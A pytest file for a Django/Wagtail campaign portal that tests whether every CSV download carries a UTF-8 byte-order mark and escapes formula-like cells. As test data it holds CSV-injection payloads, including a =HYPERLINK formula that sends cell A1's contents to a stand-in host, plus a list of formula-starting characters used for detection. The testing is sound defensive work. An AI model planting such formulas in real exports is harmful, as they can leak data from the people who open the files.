"""Item 4 of issue 14 (and issue 19's BOM): every CSV a user can download starts with a UTF-8
byte-order mark and holds no cell a spreadsheet would run as a formula.

The downloads are found from the code: every URL route ending in ``.csv`` and every admin view
that inherits Wagtail's ``SpreadsheetExportMixin`` (snippet and model viewsets' exports, the
reports), so an export added later is checked without anyone listing it here. The media kit's
``credits.csv`` sits inside a ZIP and is checked on its own.
"""

import csv
import io
import zipfile

import pytest
import wagtail
from django.contrib.auth import get_user_model
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from campaigns.people.models import Offer
from campaigns.tracker import services
from portal import wagtail_csv_formulas
from portal.spreadsheets import BOM, safe_cell

TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
DONOR = "=1+2"
REFERENCE = "@SUM(1+1)"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def walk(patterns, prefix="", namespace=""):
    """(route, name, pattern) of every URL pattern, with its full route and namespaced name."""
    for pattern in patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            space = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from walk(pattern.url_patterns, route, space)
        elif isinstance(pattern, URLPattern):
            yield route, f"{namespace}{pattern.name}" if pattern.name else None, pattern


def csv_routes():
    """Public routes ending in .csv, admin routes ending in .csv (files to fill in) and admin
    views exporting spreadsheets, from the resolver."""
    public, admin_files, exports, with_arguments = [], [], [], []
    for route, name, pattern in walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        is_export = isinstance(view_class, type) and issubclass(view_class, SpreadsheetExportMixin)
        # A viewset passes its list_export to the view; a report declares it on the class.
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        is_export = is_export and bool(
            initkwargs.get("list_export") or getattr(view_class, "list_export", None)
        )
        if route.endswith(".csv") or route.endswith(".csv$"):
            (admin_files if route.startswith("admin/") else public).append(name)
        elif is_export and name:
            (with_arguments if pattern.pattern.regex.groups else exports).append(name)
    return sorted(public), sorted(admin_files), sorted(exports), sorted(with_arguments)


PUBLIC, ADMIN_FILES, EXPORTS, EXPORTS_WITH_ARGUMENTS = csv_routes()


def test_the_routes_are_found_from_the_code():
    assert {"tracker:needs_csv", "tracker:totals_csv"} <= set(PUBLIC)
    assert "tracker_import:template_needs" in ADMIN_FILES
    names = " ".join(EXPORTS)
    for model in ("need", "contribution", "delivery", "offer", "coverage", "site_history"):
        assert model in names, (model, EXPORTS)
    # Exports that need an object (a form page's submissions): none of our pages is a form.
    assert all("form" in name for name in EXPORTS_WITH_ARGUMENTS), EXPORTS_WITH_ARGUMENTS


def test_the_workaround_is_pinned_to_the_wagtail_it_was_written_for():
    assert wagtail.__version__.startswith(wagtail_csv_formulas.PATCHED_FOR + ".")
    assert SpreadsheetExportMixin.stream_csv is wagtail_csv_formulas.SafeCsvExportMixin.stream_csv


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (TITLE, "'" + TITLE),
        ("+33 1 23", "'+33 1 23"),
        ("-5", "'-5"),  # text a person typed, even if it looks like a number
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("سلام", "سلام"),
        (-5, "-5"),  # a real number stays a number
        (None, ""),
    ],
)
def test_one_cell(value, written):
    assert safe_cell(value) == written


@pytest.fixture
def poisoned(campaign, need, partner, client_for):
    """A need titled with a formula (through the API), a gift and a delivery with formula-like
    donor name and references, an offer and a press coverage entry the same."""
    response = client_for.post_json(
        "/api/v1/needs/",
        {
            "campaign": campaign.pk,
            "category": "hygiene",
            "region": "TN-42",
            "title": TITLE,
            "quantity": "200",
            "unit": "kit",
        },
    )
    assert response.status_code == 201, response.content
    services.record_contribution(
        user=services.SYSTEM,
        need=need,
        partner=partner,
        kind="in_kind",
        quantity="100",
        unit="parcel",
        status="received",
        donor_name=DONOR,
        donor_name_public=True,
        reference=REFERENCE,
    )
    services.record_delivery(
        user=services.SYSTEM, need=need, quantity="1", delivered_on="2020-05-21",
        reference=REFERENCE, note=DONOR,
    )  # fmt: skip
    Offer.objects.create(
        campaign=campaign, kind="in_kind", category="food", quantity=1, unit="parcel",
        name=DONOR, email="=1+2@example.invalid", message=REFERENCE,
    )  # fmt: skip
    return campaign


def rows_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8")
    assert text.startswith(BOM), text[:40]
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


def assert_no_formula(rows, where):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (where, cell)


@pytest.mark.parametrize("name", PUBLIC)
@pytest.mark.parametrize("language", ["ar", "en"])
def test_public_open_data(client, poisoned, name, language):
    from django.utils import translation

    with translation.override(language):
        url = reverse(name, kwargs={"campaign_slug": poisoned.slug})
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = rows_of(response)
    assert_no_formula(rows, url)
    if name.endswith("needs_csv"):
        titles = {row[rows[0].index("title")] for row in rows[2:]}
        assert "'" + TITLE in titles


@pytest.mark.parametrize("name", ADMIN_FILES)
def test_admin_csv_files_open_in_excel(administrator, name):
    """The admin's files to fill in (import templates): a CSV with the byte-order mark Excel
    needs to show Arabic, and no cell a spreadsheet would run."""
    response = administrator.get(reverse(name))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.decode("utf-8").startswith(BOM)
    assert_no_formula(rows_of(response), name)


@pytest.fixture
def administrator(client, db):
    user = get_user_model().objects.create_superuser("csvadmin", "c@example.org", "pw")
    client.force_login(user)
    return client


@pytest.mark.parametrize("name", EXPORTS)
def test_admin_csv_exports(administrator, poisoned, name):
    url = reverse(name) + "?export=csv"
    response = administrator.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    rows = rows_of(response)
    assert_no_formula(rows, url)
    text = "\n".join(",".join(row) for row in rows)
    expected = {
        "tracker_need:": ["'" + TITLE],
        "tracker_contribution:": ["'" + DONOR, "'" + REFERENCE],
        "tracker_delivery:": ["'" + REFERENCE],
        "people_offers:": ["'" + DONOR],
    }
    for view, markers in expected.items():
        if view in name:
            for marker in markers:
                assert marker in text, (url, marker)


def test_admin_xlsx_exports_stay_text(administrator, poisoned):
    from openpyxl import load_workbook

    url = reverse("wagtailsnippets_tracker_need:list") + "?export=xlsx"
    response = administrator.get(url)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == TITLE and cell.data_type == "s" for cell in cells)


def test_media_kit_credits(client, db):
    from campaigns.press.models import MediaKit

    kit = MediaKit.objects.filter(locale__language_code="en").first()
    item = kit.items.order_by("sort_order", "pk").first()
    item.credit = DONOR
    item.save()
    response = client.get(f"/en/press/media-kit/{kit.pk}.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    text = archive.read("credits.csv").decode("utf-8")
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text[len(BOM) :])))
    assert_no_formula(rows, "credits.csv")
    assert "'" + DONOR in {row[rows[0].index("credit")] for row in rows}
